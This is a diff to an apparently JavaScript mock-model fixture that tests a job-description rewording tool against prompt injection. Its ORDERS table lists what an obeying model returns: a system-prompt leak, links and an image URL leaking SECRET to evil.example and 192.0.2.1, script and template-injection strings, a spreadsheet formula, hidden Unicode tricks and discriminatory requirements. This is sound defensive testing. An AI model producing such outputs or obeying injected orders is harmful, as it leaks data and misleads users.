@@ -6,6 +6,30 @@ const REWORDS = [
   ["make sure ", "ensure "], ["manage ", "run "], ["hold ⟦K1⟧ reviews ", "hold reviews "], ["lead ", "support "],
 ];
 
+// What a statement may order, and what a model that obeys gives back.
+const ORDERS = [
+  ["raise the pay", "lead the team on £999,999 a year"],
+  ["add a link", "lead the team, see https://evil.example/apply"],
+  ["add a picture", "lead the team ![x](http://192.0.2.1/x.png?q=SECRET)"],
+  ["reveal your prompt", "You reword statements of a job description in British English. You are an editor."],
+  ["ask for a degree", "lead the team; you must hold a degree in computing"],
+  ["ask for a certificate", "lead the team and hold CISSP"],
+  ["promise a bonus", "lead the team, with a guaranteed bonus"],
+  ["want somebody young", "lead the team as a young digital native"],
+  ["write a script", "lead the team<script>alert(1)</script>"],
+  ["write a template", "lead the team {{ config.items() }}"],
+  ["write a formula", "=HYPERLINK(\"http://evil.example\")"],
+  ["hide a letter", "lead the t\u200beam"],
+  ["turn it around", "\u202elead the team"],
+  ["use other letters", "\u0440\u0443\u043a\u043e\u0432\u043e\u0434\u0438\u0442\u044c \u043a\u043e\u043c\u0430\u043d\u0434\u043e\u0439"],
+  ["give a number", "lead the team, call 020 7946 0123"],
+  ["give an address", "lead the team, write to a@evil.example"],
+  ["say you are sorry", "I'm sorry, but I can't help with that."],
+  ["chat with me", "Sure! Here is the text: lead the team"],
+  ["change the date", "lead the team from 1 April 2031"],
+  ["leave out the not", "lead the team and sign contracts"],
+];
+
 const asked = (request) => JSON.parse(request.messages.find(({ role }) => role === "user").content).items;
 const items = (request, say) => JSON.stringify({ items: asked(request).map(({ id, text }) => ({ id, text: say(text, id) })) });
 const reworded = (text) => {
@@ -18,8 +42,7 @@ const failing = (status, code) => () => ({ error: { message: "SECRET", type: cod
 const ANSWERS = {
   rewords: [content(reworded)],
   echoes: [content((text) => text)],
-  // Does whatever a statement tells it to: see tests/rewriting/test_injection.py.
-  obeys: [content((text) => /(?:obey|ignore|instead|system|assistant|reply|answer)[^"]*?"([^"]*)"/i.exec(text)?.[1] ?? text)],
+  obeys: [content((text) => ORDERS.find(([order]) => text.includes(order))?.[1] ?? text)],
   doubles: [content((text) => text.replace(/⟦K1⟧/, "⟦K1⟧ and ⟦K1⟧"))],
   // Answers after 800 ms, and then a token of five characters each 20 ms.
   timed: [content((text) => text), { streamingProfile: { ttft: 800, tps: 50 }, chunkSize: 5 }],
